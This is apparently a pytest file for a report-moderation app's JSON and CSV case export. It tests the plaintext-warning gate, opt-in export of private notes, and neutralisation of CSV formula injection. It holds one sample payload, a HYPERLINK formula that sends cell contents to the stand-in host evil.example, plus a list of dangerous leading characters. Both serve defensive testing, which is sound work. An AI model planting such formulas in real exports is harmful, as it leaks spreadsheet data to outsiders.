"""Case export: JSON and CSV only after the plaintext warning was acknowledged; CSV-injection
safe; notes only when asked."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from app.case_export import PLAINTEXT_WARNING, export_cases, neutralize_cell
from app.errors import AppError
from app.importing import import_items, item_from_text
from app.moderator_store import ModeratorStore, ensure_store_key
from app.paths import AppPaths
from app.team import create_team
from app.triage import add_note, add_tag, set_status
from crypto.armor import armor
from crypto.card import TeamCard
from crypto.inner import Manifest
from crypto.padding import PaddingProfile
from crypto.seal import seal_report

HOSTILE_TITLE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


def seal(card: TeamCard, fields: dict[str, str]) -> str:
    sink = io.BytesIO()
    seal_report(sink, list(card.moderators), Manifest(fields=fields, sealed_on="2026-03-01"), [],
                profile=PaddingProfile.COMPACT)
    return armor(sink.getvalue())


@pytest.fixture()
def store(tmp_path: Path) -> ModeratorStore:
    secrets, card = create_team("Export Team", dt.date(2026, 1, 1))
    store = ModeratorStore.open(AppPaths.under(tmp_path / "app"), ensure_store_key(secrets)[0])
    import_items(store, [
        item_from_text(seal(card, {"title": HOSTILE_TITLE, "category": "other",
                                   "what_happened": "+1 555 0100\nsecond line",
                                   "who_affected": "@editor", "where": "-capital"})),
        item_from_text(seal(card, {"title": "Plain title", "category": "arrest",
                                   "what_happened": "Ordinary text, with a comma"}))])
    for entry in store.entries():
        add_tag(store, entry.report_id, "case-7")
        add_note(store, entry.report_id, "private note: do not export")
    set_status(store, store.entries()[0].report_id, "closed")
    return store


def ids(store: ModeratorStore) -> list[str]:
    return [e.report_id for e in store.entries()]


def test_refused_without_acknowledgement(tmp_path: Path, store: ModeratorStore) -> None:
    for fmt in ("json", "csv"):
        with pytest.raises(AppError) as info:
            export_cases(store, ids(store), tmp_path / f"out.{fmt}", fmt=fmt)
        assert info.value.code == "export.needs_ack"
    assert not list(tmp_path.glob("out.*"))
    for kwargs, code in (({"fmt": "xml"}, "export.invalid_format"),
                         ({"fmt": "csv", "report_ids": []}, "export.nothing_selected")):
        with pytest.raises(AppError) as info:
            export_cases(store, kwargs.pop("report_ids", ids(store)),  # type: ignore[arg-type]
                         tmp_path / "x", acknowledge_plaintext=True, **kwargs)  # type: ignore[arg-type]
        assert info.value.code == code
    assert "NOT encrypted" in PLAINTEXT_WARNING


def test_json_export(tmp_path: Path, store: ModeratorStore) -> None:
    outcome = export_cases(store, ids(store), tmp_path / "cases.json", acknowledge_plaintext=True)
    document = json.loads((tmp_path / "cases.json").read_text(encoding="utf-8"))
    assert outcome.reports == 2 and document["warning"] == PLAINTEXT_WARNING
    by_title = {r["fields"]["title"]: r for r in document["reports"]}
    assert by_title[HOSTILE_TITLE]["fields"]["what_happened"] == "+1 555 0100\nsecond line"
    assert {r["status"] for r in document["reports"]} == {"closed", "new"}
    assert all(r["tags"] == ["case-7"] for r in document["reports"])
    assert "notes" not in by_title["Plain title"]
    assert "private note" not in (tmp_path / "cases.json").read_text(encoding="utf-8")
    export_cases(store, ids(store)[:1], tmp_path / "n.json", acknowledge_plaintext=True,
                 include_notes=True)
    notes = json.loads((tmp_path / "n.json").read_text())["reports"][0]["notes"]
    assert notes[0]["text"] == "private note: do not export"


def test_csv_export_is_injection_safe(tmp_path: Path, store: ModeratorStore) -> None:
    export_cases(store, ids(store), tmp_path / "cases.csv", fmt="csv",
                 acknowledge_plaintext=True)
    raw = (tmp_path / "cases.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 2 and "notes" not in rows[0]
    hostile = next(r for r in rows if "HYPERLINK" in r["title"])
    assert hostile["title"] == "'" + HOSTILE_TITLE
    assert hostile["what_happened"] == "'+1 555 0100\nsecond line"
    assert hostile["who_affected"] == "'@editor" and hostile["where"] == "'-capital"
    plain = next(r for r in rows if r["title"] == "Plain title")
    assert plain["what_happened"] == "Ordinary text, with a comma" and plain["tags"] == "case-7"
    for row in rows:
        for value in row.values():
            assert value.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
    export_cases(store, ids(store), tmp_path / "n.csv", fmt="csv", acknowledge_plaintext=True,
                 include_notes=True)
    with_notes = list(csv.DictReader(io.StringIO((tmp_path / "n.csv").read_text("utf-8-sig"))))
    assert "private note: do not export" in with_notes[0]["notes"]


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("a=1", "a=1"), ("", ""),
    ("1-2", "1-2")])
def test_neutralize_cell(cell: str, expected: str) -> None:
    assert neutralize_cell(cell) == expected
